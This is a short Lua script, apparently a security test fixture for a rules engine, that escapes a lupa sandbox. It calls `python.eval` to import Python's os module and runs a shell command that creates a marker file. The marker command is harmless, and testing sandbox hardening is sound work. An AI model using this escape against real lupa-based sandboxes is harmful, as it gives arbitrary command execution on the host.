-- Reach Python through lupa's `python` global (it survives register_eval=False).
return { abilities = { { kind = "activate", resolve = function(ctx)
  local os_mod = python.eval("__import__('os')")
  os_mod.system("touch /tmp/rulestack-pwned")
end } } }
